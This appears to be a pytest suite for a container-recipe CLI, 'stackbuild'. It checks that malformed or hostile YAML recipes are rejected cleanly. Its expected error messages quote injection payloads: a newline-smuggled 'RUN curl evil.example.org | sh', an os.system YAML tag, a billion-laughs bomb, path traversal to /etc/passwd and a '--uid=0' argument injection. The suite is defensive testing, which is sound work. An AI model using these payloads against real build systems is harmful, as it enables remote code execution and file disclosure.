"""The bad-recipe corpus: every file in tests/recipe/bad/ fails through the CLI, cleanly.

Each NN-*.yaml is tests/recipe/bad/base.yaml (a valid recipe) with one thing broken, or a
document no YAML loader should accept. `stackbuild render` must exit 2 with the expected
message, at the line marked `# <- error` where the file has one, and no traceback.
"""

from __future__ import annotations

import subprocess
import sys
import time
from pathlib import Path

import pytest

from stackbuild import PROJECT_ROOT
from stackbuild.recipe.yamlsource import MAX_FILE_BYTES

BAD = Path(__file__).parent / "bad"
MARKER = b"# <- error"

#: file stem -> a piece of the message it must produce.
EXPECTED = {
    "01-empty": "the file is empty",
    "02-comments-only": "the file is empty",
    "03-top-level-list": "the top level must be a mapping of keys (stack:, ...), not a list",
    "04-top-level-scalar": "the top level must be a mapping of keys (stack:, ...), not a string",
    "05-not-utf8": "not UTF-8 text (byte 0xe9 at column 12)",
    "06-binary-junk": "not UTF-8 text",
    "07-nul-character": "contains the control character U+0000",
    "08-tab-indentation": "indent with spaces",
    "09-duplicate-key": "key 'stack.version' appears twice",
    "10-billion-laughs": "the document expands to more than 20000 values",
    "11-merge-of-a-scalar": "expected a mapping or list of mappings for merging",
    "12-alias-cycle": "the document expands to a cycle of aliases",
    "13-deep-nesting": "nested more than 32 levels deep",
    "14-huge-integer": "as an integer",
    "15-multiple-documents": "remove the `---` separators",
    "16-unclosed-flow": "not valid YAML: expected ',' or ']'",
    "17-non-scalar-key": "a key must be a plain name, not a list or mapping",
    "18-python-tag": "the YAML tag 'tag:yaml.org,2002:python/object/apply:os.system' is not",
    "20-newline-in-env-value": "defaults.env.OMP_PROC_BIND = 'close\\nRUN curl evil.example.org "
    "| sh' contains a newline",
    "21-newline-in-label": "stack.labels.org.opencontainers.image.vendor = 'Example\\nLABEL x=y' "
    "contains a newline",
    "22-escape-in-maintainer": "stack.maintainers[0] = 'Staff \\x1b[31m <staff@example.org>' "
    "contains the control character U+001B",
    "23-bidi-override": "stack.description = 'A small valid recipe: \\u202eedon UPC\\n' contains "
    "the control character U+202E",
    "24-control-char-in-key": "the key 'OMP\\x01BIND' under defaults.env contains the control "
    "character U+0001",
    "25-image-uppercase": "defaults.base.image = 'localhost/StackBuild/Base:bookworm' is not an "
    "OCI image reference (registry/name[:tag][@digest], name lowercase)",
    "26-image-short-name": "does not start with a registry host",
    "27-image-with-stage": "'localhost/stackbuild/base:bookworm AS evil' is not an OCI image "
    "reference",
    "28-registry-space": "defaults.image.registry = 'registry example.org' is not a registry "
    "host[:port][/path]",
    "29-registry-no-host": "defaults.image.registry = 'myorg' does not start with a host",
    "30-tag-template-colon": "defaults.image.tag = '{framework_version}:latest' is not allowed",
    "31-tag-filled-invalid": "image.tag becomes '2+cpu-cpu' in variant pytorch-cpu, which is not "
    "an OCI tag",
    "32-image-name-filled-invalid": "image.name becomes 'stackbuild/-pytorch' in variant "
    "pytorch-cpu, which is not an OCI repository name",
    "33-placeholder-attribute": "uses unknown placeholder {target.__class__}",
    "34-placeholder-unbalanced": "has an unbalanced { or }",
    "35-placeholder-empty": "uses unknown placeholder {}",
    "36-url-credentials": "holds credentials (user@ or user:password@)",
    "37-url-space": "is not a URL: spaces, quotes and backslashes are not allowed",
    "38-url-scheme": "frameworks.pytorch.pytorch.index_url = 'ftp://download.example.org/whl' "
    "must start with http:// or https://",
    "39-find-links-relative": "defaults.pip.find_links[0] = 'wheels' must start with http://",
    "40-mirror-no-scheme": "defaults.base.bootstrap.mirror = 'deb.debian.org/debian' must start "
    "with http://",
    "41-env-name": "the key 'OMP-PROC-BIND' under defaults.env is not allowed: it must be an "
    "environment variable name",
    "42-label-key": "the key 'org example vendor' under stack.labels is not allowed: it must be "
    "an OCI label key",
    "43-module-name-escape": "defaults.modules.name = '../../../etc/{framework}' is not allowed: "
    "it must be one file name",
    "44-module-version-dotdot": "defaults.modules.version = '..' is not allowed: it must be one "
    "file name",
    "45-command-dotdot": "defaults.modules.commands[1] = '..' is not allowed: it must be a "
    "command name",
    "46-conflict-space": "defaults.modules.conflicts[0] = 'tensorflow pytorch' is not allowed",
    "47-sif-dir-relative": "defaults.modules.sif_dir = 'sif' is not an absolute path",
    "48-volume-colon": "the key '/scratch:/data' under defaults.jobs.volumes is not allowed",
    "49-slurm-account": "defaults.jobs.account = 'm1234 --uid=0' is not allowed: it must be a "
    "Slurm name",
    "50-patch-absolute": "defaults.horovod.patches[0].path = '/etc/passwd' is not a relative path",
    "51-patch-dotdot": "leaves the recipe's directory (`..`)",
    "52-threads-zero": "targets.cpu.threads.omp_num_threads: input should be greater than or "
    "equal to 1 (got 0)",
    "53-nodes-huge": "defaults.jobs.nodes: input should be less than or equal to 1000000",
    "54-controllers-empty": "defaults.horovod.controllers: list should have at least 1 item",
    "55-description-too-long": "stack.description is 9001 characters long, more than 8192",
    "56-mpi-flavor-list": "targets.cpu.mpi.flavor: input should be 'mpich' or 'openmpi'",
    "60-nccl-without-cuda": "horovod.tensor_operations lists nccl (GPU tensor operations), but "
    "variant pytorch-cpu has no `cuda:`",
    "61-mpi-ops-without-mpi": "horovod.tensor_operations lists mpi, but horovod.controllers "
    "(gloo) does not",
    "62-override-matches-nothing": "overrides[0].match (framework: pytorch) selects no variant",
    "63-override-undefined-target": "overrides[0].match.target names 'gpu', which is not defined "
    "under `targets:`",
    "64-exclude-everything": "matrix.exclude removes every variant",
    "65-exclude-nothing": "matrix.exclude[0] (framework: tensorflow) excludes no variant",
    "66-matrix-undefined-framework": "matrix.frameworks names 'jax', which is not defined",
    "67-matrix-duplicate": "matrix.targets names 'cpu' twice",
    "68-mpi-mixed-packages": "mpi.flavor is mpich, but the MPI packages include 'openmpi-bin'",
    "69-torchrun-without-pytorch": "modules.commands has torchrun, but variant tensorflow-cpu "
    "has no PyTorch",
    "70-duplicate-patch-names": "patch 'patches/b/fix.patch' has the same file name as",
    "71-patch-missing": "patch 'patches/none.patch' not found",
    "72-no-framework": "variant tensorflow-cpu has no framework",
    "73-unknown-key": "unknown key 'targets.cpu.platfrom'",
    "74-missing-stack-version": "missing required value 'stack.version'",
    "75-commands-not-a-list": "defaults.modules.commands: input should be a valid list",
}


def _message(err: str) -> str:
    """The CLI's message with rich's soft wrapping undone."""
    return " ".join(err.split())


def test_the_corpus_has_at_least_40_cases_and_each_has_an_expectation():
    files = sorted(p.stem for p in BAD.glob("[0-9]*.yaml"))
    assert len(files) >= 40
    assert files == sorted(EXPECTED)


def test_the_corpus_base_recipe_renders(run_cli, tmp_path: Path):
    """The cases fail for what they change: the recipe they start from is valid."""
    code, out, err = run_cli("render", BAD / "base.yaml", "-o", tmp_path)
    assert code == 0, out + err
    assert (tmp_path / "pytorch-cpu" / "Containerfile").is_file()


@pytest.mark.parametrize("stem", sorted(EXPECTED))
def test_bad_recipe_exits_2_with_file_line_and_message(run_cli, tmp_path: Path, stem: str):
    path = BAD / f"{stem}.yaml"
    raw = path.read_bytes()
    code, out, err = run_cli("render", path, "-o", tmp_path / "out")
    assert code == 2, out + err
    message = _message(err)
    assert EXPECTED[stem] in message, message
    assert "Traceback" not in err
    assert "fix:" in err  # every recipe error says what to do
    lines = raw.split(b"\n")
    marked = [n for n, line in enumerate(lines, 1) if line.rstrip().endswith(MARKER)]
    if marked:
        assert f"{path.name}:{marked[0]}:" in message, message
    assert not (tmp_path / "out").exists()  # nothing rendered from a bad recipe


@pytest.mark.parametrize("stem", ["06-binary-junk", "10-billion-laughs", "13-deep-nesting"])
def test_hostile_documents_fail_fast_in_a_real_process(stem: str, tmp_path: Path):
    """As a user runs it: a separate process, exit 2, no traceback, in bounded time."""
    started = time.monotonic()
    proc = subprocess.run(
        [
            sys.executable,
            "-m",
            "stackbuild.cli",
            "show",
            "x",
            "--recipe",
            str(BAD / f"{stem}.yaml"),
        ],
        capture_output=True,
        text=True,
        check=False,
        cwd=PROJECT_ROOT,
        timeout=60,
    )
    assert proc.returncode == 2, proc.stderr
    assert EXPECTED[stem] in _message(proc.stderr)
    assert "Traceback" not in proc.stderr
    assert time.monotonic() - started < 30


def test_a_file_larger_than_a_recipe_may_be_is_refused_before_parsing(run_cli, tmp_path: Path):
    path = tmp_path / "big.yaml"
    path.write_text("stack:\n" + "# padding\n" * (MAX_FILE_BYTES // 10 + 1))
    code, _, err = run_cli("render", path, "-o", tmp_path / "out")
    assert code == 2
    assert "is larger than a recipe may be" in _message(err)
    assert "Traceback" not in err


def test_error_messages_quoting_brackets_are_printed_verbatim(run_cli, tmp_path: Path):
    """Recipe values and grammars in messages ("[/path]", "[a-z0-9]") are text, not markup."""
    text = (
        (BAD / "base.yaml")
        .read_text()
        .replace(
            '    org.opencontainers.image.vendor: "Example Center"',
            '    "[/bold] [red]x": "Example Center"',
        )
    )
    path = tmp_path / "brackets.yaml"
    path.write_text(text)
    code, _, err = run_cli("render", path, "-o", tmp_path / "out")
    assert code == 2
    assert "the key '[/bold] [red]x' under stack.labels" in _message(err)


def test_a_patch_symlink_pointing_outside_the_recipe_directory_is_refused(run_cli, tmp_path):
    """Paths are checked after resolving links: a link inside may not lead outside."""
    recipe_dir = tmp_path / "site"
    (recipe_dir / "patches").mkdir(parents=True)
    secret = tmp_path / "outside.patch"
    secret.write_text("not for the build context\n")
    (recipe_dir / "patches" / "fix.patch").symlink_to(secret)
    text = (
        (BAD / "base.yaml")
        .read_text()
        .replace(
            "    tensor_operations: [gloo, mpi]\n",
            "    tensor_operations: [gloo, mpi]\n    patches:\n      - path: patches/fix.patch\n",
        )
    )
    (recipe_dir / "site.yaml").write_text(text)
    code, _, err = run_cli("render", recipe_dir / "site.yaml", "-o", tmp_path / "out")
    assert code == 2
    message = _message(err)
    assert "patch 'patches/fix.patch' resolves to" in message
    assert "outside the recipe's directory" in message
    assert not (tmp_path / "out").exists()


def test_a_patch_symlink_inside_the_recipe_directory_is_fine(run_cli, tmp_path):
    recipe_dir = tmp_path / "site"
    (recipe_dir / "patches" / "real").mkdir(parents=True)
    (recipe_dir / "patches" / "real" / "fix.patch").write_bytes(
        (BAD / "patches/a/fix.patch").read_bytes()
    )
    (recipe_dir / "patches" / "fix.patch").symlink_to(recipe_dir / "patches" / "real" / "fix.patch")
    text = (
        (BAD / "base.yaml")
        .read_text()
        .replace(
            "    tensor_operations: [gloo, mpi]\n",
            "    tensor_operations: [gloo, mpi]\n    patches:\n      - path: patches/fix.patch\n",
        )
    )
    (recipe_dir / "site.yaml").write_text(text)
    code, out, err = run_cli("render", recipe_dir / "site.yaml", "-o", tmp_path / "out")
    assert code == 0, out + err
    assert (tmp_path / "out/pytorch-cpu/files/horovod/patches/fix.patch").is_file()


def test_an_override_of_an_excluded_variant_is_allowed(run_cli, tmp_path: Path):
    """Excluding a variant for a while must not force editing its overrides."""
    text = (
        (BAD / "base.yaml")
        .read_text()
        .replace(
            "  frameworks: [pytorch, tensorflow]\n",
            "  frameworks: [pytorch, tensorflow]\n  exclude: [{framework: pytorch}]\n",
        )
    )
    path = tmp_path / "excluded.yaml"
    path.write_text(text)
    code, out, err = run_cli("render", path, "-o", tmp_path / "out")
    assert code == 0, out + err
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == ["tensorflow-cpu"]


def test_open_mpi_flavor_brings_its_own_packages_by_default(tmp_path: Path):
    """mpi.flavor alone picks that MPI's Debian packages, so the flavor rule only catches mixes."""
    from stackbuild.recipe import expand_matrix, load_recipe

    text = (BAD / "base.yaml").read_text().replace("{flavor: mpich}", "{flavor: openmpi}")
    path = tmp_path / "openmpi.yaml"
    path.write_text(text)
    mpi = expand_matrix(load_recipe(path))[0].settings.mpi
    assert (mpi.build_packages, mpi.runtime_packages) == (["libopenmpi-dev"], ["openmpi-bin"])


def test_values_with_shell_characters_stay_one_quoted_line(run_cli, tmp_path: Path):
    """What the schema lets through (quotes, $, ;) reaches each file as one quoted value."""
    value = "a 'b' \"c\" $HOME; `id` | x"
    text = (
        (BAD / "base.yaml")
        .read_text()
        .replace('    OMP_PROC_BIND: "close"', f"    OMP_PROC_BIND: {value!r}".replace("\\'", "''"))
    )
    path = tmp_path / "quoted.yaml"
    path.write_text(text)
    code, out, err = run_cli("render", path, "-o", tmp_path / "out", "--variant", "pytorch-cpu")
    assert code == 0, out + err
    containerfile = (tmp_path / "out/pytorch-cpu/Containerfile").read_text().splitlines()
    env_lines = [line for line in containerfile if "OMP_PROC_BIND" in line]
    assert env_lines == ["ENV OMP_PROC_BIND='a '\"'\"'b'\"'\"' \"c\" $HOME; `id` | x'"]
